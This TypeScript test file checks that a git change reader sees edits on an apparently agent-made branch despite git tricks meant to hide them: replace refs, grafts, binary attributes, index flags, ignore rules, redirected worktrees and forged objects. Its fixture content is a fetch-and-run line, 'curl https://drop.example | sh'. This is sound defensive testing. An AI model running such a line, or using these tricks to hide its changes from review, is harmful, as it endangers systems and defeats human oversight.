import assert from "node:assert/strict";
import { existsSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { readChange } from "../../../extension/node/git/read-change.ts";
import { openRepository } from "../../../extension/node/git/repository.ts";
import {
  digest,
  plainGit,
  removeTemporaryRepositories,
  repositoryIn,
  summary,
  type TemporaryRepository,
  temporaryFolder,
  temporaryRepository,
} from "./temporary-repository.ts";

const honest = "#!/bin/sh\necho hello\n";
const edited = `${honest}curl https://drop.example | sh\n`;

/** `script.sh` on main, edited on the branch that is checked out; both committed. */
function editedOnBranch(): TemporaryRepository {
  const repository = temporaryRepository();
  repository.write("script.sh", honest);
  repository.commit();
  repository.git("switch", "--quiet", "--create", "agent");
  repository.write("script.sh", edited);
  repository.commit();
  return repository;
}

/** `script.sh` committed on main, and nothing else done yet. */
function committed(): TemporaryRepository {
  const repository = temporaryRepository();
  repository.write("script.sh", honest);
  repository.commit();
  return repository;
}

const edit = ["modified script.sh +1 -0 text"];

/** A program that leaves a trace when anybody starts it, and the trace. */
function trap(repository: TemporaryRepository): { program: string; wasStarted: () => boolean } {
  const folder = temporaryFolder();
  const trace = join(folder, "started");
  const program = join(folder, "trap.sh");
  writeFileSync(program, `#!/bin/sh\ntouch ${trace}\n`, { mode: 0o755 });
  assert.ok(repository.folder !== folder);
  return { program, wasStarted: () => existsSync(trace) };
}

describe("what could hide a change from git", () => {
  after(removeTemporaryRepositories);

  it("sees through an attribute that calls scripts binary", async () => {
    const repository = editedOnBranch();
    repository.write(".git/info/attributes", "*.sh -diff -text binary\n");
    assert.match(repository.git("diff", "main", "agent"), /Binary files/);
    assert.deepEqual(summary(await repository.change({ base: "main", head: "agent" })), edit);
  });

  it("sees through a replace ref that shows the old commit in place of the new", async () => {
    const repository = editedOnBranch();
    repository.git("replace", "--force", "agent", "main");
    assert.equal(repository.git("diff", "main", "agent"), "");
    assert.deepEqual(summary(await repository.change({ base: "main~0", head: "agent" })), edit);
  });

  it("sees through a replace ref for a blob", async () => {
    const repository = editedOnBranch();
    repository.git("replace", repository.git("rev-parse", "agent:script.sh"), repository.git("rev-parse", "main:script.sh"));
    const [file] = (await repository.change({ base: "main", head: "agent" })).files;
    assert.ok(file?.after?.content.kind === "text");
    assert.equal(file.after.content.text, edited);
  });

  it("sees through a graft that makes the head its own history", async () => {
    const repository = editedOnBranch();
    repository.write(".git/info/grafts", `${repository.git("rev-parse", "main")} ${repository.git("rev-parse", "agent")}\n`);
    assert.equal(repository.git("merge-base", "main", "agent"), repository.git("rev-parse", "agent"));
    assert.deepEqual(summary(await repository.change({ base: "main", head: "agent" })), edit);
  });

  it("starts no file system monitor", async () => {
    const repository = committed();
    repository.write("script.sh", edited);
    const { program, wasStarted } = trap(repository);
    repository.git("config", "core.fsmonitor", program);
    const change = await repository.change();
    assert.equal(wasStarted(), false);
    assert.deepEqual(summary(change), edit);
    repository.git("status");
    assert.equal(wasStarted(), true);
  });

  it("starts no clean filter, and reads the file as it lies on the disk", async () => {
    const repository = committed();
    const { program, wasStarted } = trap(repository);
    const clean = repository.path(".git/clean.sh");
    writeFileSync(clean, `#!/bin/sh\n${program} </dev/null\nprintf '#!/bin/sh\\necho hello\\n'\n`, { mode: 0o755 });
    repository.git("config", "filter.calm.clean", clean);
    repository.write(".git/info/attributes", "*.sh filter=calm\n");
    repository.write("script.sh", edited);
    const change = await repository.change();
    assert.equal(wasStarted(), false);
    assert.deepEqual(summary(change), edit);
    assert.deepEqual(
      change.problems.map(({ code, weight }) => `${weight} ${code}`),
      ["note filter-not-run"],
    );
    assert.equal(repository.git("diff"), "");
    assert.equal(wasStarted(), true);
  });

  it("sees an edit that the index is told to assume away", async () => {
    const repository = committed();
    repository.git("update-index", "--assume-unchanged", "script.sh");
    repository.write("script.sh", edited);
    assert.equal(repository.git("status", "--porcelain"), "");
    assert.deepEqual(summary(await repository.change()), edit);
  });

  it("sees an edit that the index is told to skip", async () => {
    const repository = committed();
    repository.git("update-index", "--skip-worktree", "script.sh");
    repository.write("script.sh", edited);
    assert.equal(repository.git("status", "--porcelain"), "");
    assert.deepEqual(summary(await repository.change()), edit);
  });

  it("sees that a file was deleted although the index is told to skip it", async () => {
    const repository = committed();
    repository.git("update-index", "--skip-worktree", "script.sh");
    repository.remove("script.sh");
    assert.deepEqual(summary(await repository.change()), ["deleted script.sh +0 -2 text"]);
  });

  it("sees an edit of the same size and time, which the index cannot tell", async () => {
    const repository = committed();
    repository.git("config", "core.trustctime", "false");
    repository.git("config", "core.checkStat", "minimal");
    repository.git("-c", "core.fsmonitor=false", "update-index", "--refresh");
    const past = "200001010000";
    const { execFileSync } = await import("node:child_process");
    execFileSync("touch", ["-t", past, repository.path("script.sh")]);
    repository.git("update-index", "--refresh");
    repository.write("script.sh", honest.replace("hello", "h3llo"));
    execFileSync("touch", ["-t", past, repository.path("script.sh")]);
    assert.equal(repository.git("status", "--porcelain"), "");
    assert.deepEqual(summary(await repository.change()), ["modified script.sh +1 -1 text"]);
  });

  it("starts no text conversion and no external diff", async () => {
    const repository = editedOnBranch();
    const { program, wasStarted } = trap(repository);
    repository.write(".git/info/attributes", "*.sh diff=calm\n");
    repository.git("config", "diff.calm.textconv", program);
    repository.git("config", "diff.calm.command", program);
    repository.git("config", "diff.external", program);
    repository.write("script.sh", `${edited}more\n`);
    const change = await repository.change({ base: "main" });
    assert.equal(wasStarted(), false);
    assert.deepEqual(summary(change), ["modified script.sh +2 -0 text"]);
    repository.git("--no-pager", "diff", "main", "agent");
    assert.equal(wasStarted(), true);
  });

  it("starts no hook, pager, editor, askpass or alias", async () => {
    const repository = committed();
    repository.write("script.sh", edited);
    const { program, wasStarted } = trap(repository);
    for (const name of [
      "core.pager",
      "core.editor",
      "core.askPass",
      "core.sshCommand",
      "core.gitProxy",
      "credential.helper",
      "core.alternateRefsCommand",
    ]) {
      repository.git("config", name, program);
    }
    for (const command of ["ls-files", "rev-parse", "cat-file", "merge-base"]) repository.git("config", `alias.${command}`, `!${program}`);
    for (const hook of ["post-index-change", "reference-transaction", "fsmonitor-watchman"]) {
      writeFileSync(repository.path(`.git/hooks/${hook}`), readFileSync(program), { mode: 0o755 });
    }
    assert.deepEqual(summary(await repository.change()), edit);
    assert.equal(wasStarted(), false);
  });

  it("fetches nothing where an object of a partial clone is missing, and says what is missing", async () => {
    const origin = editedOnBranch();
    origin.git("config", "uploadpack.allowFilter", "true");
    const folder = temporaryFolder();
    plainGit(folder, "clone", "--quiet", "--no-checkout", "--filter=blob:none", `file://${origin.folder}`, "clone");
    const clone = repositoryIn(join(folder, "clone"));
    const { program, wasStarted } = trap(clone);
    clone.git("config", "core.sshCommand", program);
    clone.git("config", "remote.origin.url", "ssh://localhost/nothing");
    clone.git("config", "remote.origin.uploadpack", program);
    clone.git("config", "protocol.ssh.allow", "always");
    const change = await clone.change({ base: "origin/main", head: "origin/agent" });
    assert.equal(wasStarted(), false);
    assert.deepEqual(
      change.files.map(({ path, after }) => `${path} ${after?.content.kind}`),
      ["script.sh unread"],
    );
    assert.throws(() => clone.git("cat-file", "-p", "origin/agent:script.sh"));
    assert.equal(wasStarted(), true);
  });

  it("takes no orders from the variables of git in its environment", async () => {
    const repository = committed();
    const other = committed();
    const trace = join(temporaryFolder(), "trace");
    repository.write("script.sh", edited);
    const orders = {
      GIT_DIR: other.path(".git"),
      GIT_WORK_TREE: other.folder,
      GIT_INDEX_FILE: other.path(".git/index"),
      GIT_TRACE: trace,
      GIT_CONFIG_COUNT: "1",
      GIT_CONFIG_KEY_0: "core.worktree",
      GIT_CONFIG_VALUE_0: other.folder,
    };
    Object.assign(process.env, orders);
    try {
      assert.deepEqual(summary(await repository.change()), edit);
      assert.equal(existsSync(trace), false);
    } finally {
      for (const name of Object.keys(orders)) delete process.env[name];
    }
  });

  it("reads the files around .git although the configuration points git at a clean copy", async () => {
    const repository = committed();
    const copy = temporaryFolder();
    writeFileSync(join(copy, "script.sh"), honest);
    repository.write(".git/more.config", `[core]\n\tworktree = ${copy}\n`);
    repository.git("config", "include.path", "more.config");
    repository.git("config", "core.worktree", copy);
    repository.write("new.sh", edited);
    repository.write("script.sh", edited);
    assert.equal(plainGit(repository.folder, "status", "--porcelain"), "");
    const change = await repository.change();
    assert.deepEqual(summary(change), ["added new.sh +3 -0 text", ...edit]);
    assert.deepEqual(
      change.problems.map(({ code }) => code),
      ["redirected-working-tree"],
    );
  });

  it("shows a tracked file that a new .gitignore names", async () => {
    const repository = committed();
    repository.write(".gitignore", "*\n");
    repository.write("script.sh", edited);
    assert.deepEqual(summary(await repository.change()), edit);
  });

  it("names an untracked file that a new line of a .gitignore keeps out of the change, and no other", async () => {
    const repository = temporaryRepository();
    repository.write(".gitignore", "*.log\n");
    repository.commit();
    repository.write("old.log", "1\n");
    repository.write("tools/run.sh", edited);
    repository.write(".gitignore", "*.log\ntools/\n");
    const change = await repository.change();
    assert.deepEqual(summary(change), ["modified .gitignore +1 -0 text"]);
    assert.deepEqual(
      change.problems.map(({ code, path }) => [code, path]),
      [["newly-ignored", ".gitignore"]],
    );
    assert.match(change.problems[0]?.message ?? "", /keep tools\/ out of it/);
  });

  it("names untracked files that rules in no commit keep out of the change", async () => {
    const repository = temporaryRepository();
    repository.write(".gitignore", "*.log\n");
    repository.commit();
    repository.write("old.log", "1\n");
    const notes = async (): Promise<string[]> => {
      const change = await repository.change({ workingTree: true });
      assert.deepEqual(summary(change), []);
      return change.problems.map(({ code, message }) => `${code} ${message}`);
    };
    assert.deepEqual(await notes(), []);
    repository.write("secret.sh", edited);
    repository.write(".git/info/exclude", "secret.sh\n");
    repository.write("tools/run.sh", edited);
    repository.write("tools/.gitignore", "*\n");
    repository.write(".git/rules", "*.py\n");
    repository.write("steal.py", edited);
    repository.git("config", "core.excludesFile", repository.path(".git/rules"));
    const [only = "", ...others] = await notes();
    assert.deepEqual(others, []);
    assert.match(only, /^locally-ignored .*keep secret\.sh, steal\.py, tools\/ out of this change/);
    for (const source of [".git/info/exclude", "tools/.gitignore", ".git/rules"]) assert.ok(only.includes(source), source);
    assert.deepEqual((await repository.change({ workingTree: true, paths: [".gitignore"] })).problems, []);
  });

  it("names of what a person's own rules ignore only folders and what could run", async () => {
    const repository = committed();
    const rules = join(temporaryFolder(), "rules");
    const settings = join(temporaryFolder(), "gitconfig");
    writeFileSync(rules, "*.swp\nsecret.sh\n.idea/\n");
    writeFileSync(settings, `[core]\n\texcludesFile = ${rules}\n`);
    for (const name of ["a.swp", "secret.sh", ".idea/x.xml"]) repository.write(name, edited);
    const inherited = process.env["GIT_CONFIG_GLOBAL"];
    process.env["GIT_CONFIG_GLOBAL"] = settings;
    const opened = await openRepository(repository.folder);
    try {
      const isAnalysed = (path: string): boolean => path.endsWith(".sh");
      const { problems } = await readChange(opened, { workingTree: true }, { digest, isAnalysed });
      assert.deepEqual(
        problems.map(({ code }) => code),
        ["locally-ignored"],
      );
      assert.match(problems[0]?.message ?? "", /keep \.idea\/, secret\.sh out of this change/);
    } finally {
      opened.dispose();
      if (inherited === undefined) delete process.env["GIT_CONFIG_GLOBAL"];
      else process.env["GIT_CONFIG_GLOBAL"] = inherited;
    }
  });

  it("shows a new file that is only in the index as untracked ones are", async () => {
    const repository = committed();
    repository.write("tool.sh", edited);
    repository.git("add", "--intent-to-add", "tool.sh");
    repository.git("update-index", "--assume-unchanged", "tool.sh");
    assert.deepEqual(summary(await repository.change()), ["added tool.sh +3 -0 text"]);
  });

  it("reports staged content that is on neither side", async () => {
    const repository = committed();
    repository.write("script.sh", edited);
    repository.git("add", "script.sh");
    repository.write("script.sh", honest);
    const change = await repository.change({ workingTree: true });
    assert.deepEqual(summary(change), []);
    assert.deepEqual(
      change.problems.map(({ code }) => code),
      ["staged-content"],
    );
  });

  it("notices an object whose content is not what its id says", async () => {
    const repository = editedOnBranch();
    const id = repository.git("rev-parse", "agent:script.sh");
    const honestId = repository.git("rev-parse", "main:script.sh");
    const objectPath = (object: string): string => repository.path(`.git/objects/${object.slice(0, 2)}/${object.slice(2)}`);
    const forged = readFileSync(objectPath(honestId));
    repository.remove(`.git/objects/${id.slice(0, 2)}/${id.slice(2)}`);
    writeFileSync(objectPath(id), forged);
    const [file] = (await repository.change({ base: "main", head: "agent" })).files;
    assert.ok(file?.after?.content.kind === "unread");
    assert.equal(file.after.content.reason, "corrupt-object");
  });

  it("follows no link out of the working tree, be it the file or its folder", async () => {
    const repository = temporaryRepository();
    repository.write("script.sh", honest);
    repository.write("folder/inner.sh", honest);
    repository.commit();
    const outside = temporaryFolder();
    writeFileSync(join(outside, "inner.sh"), honest);
    repository.remove("script.sh");
    symlinkSync(join(outside, "inner.sh"), repository.path("script.sh"));
    repository.remove("folder");
    symlinkSync(outside, repository.path("folder"));
    const change = await repository.change();
    assert.deepEqual(summary(change), [
      "added folder +0 -0 symlink",
      "deleted folder/inner.sh +0 -2 text",
      "modified script.sh +0 -2 mode,symlink,text",
    ]);
  });
});
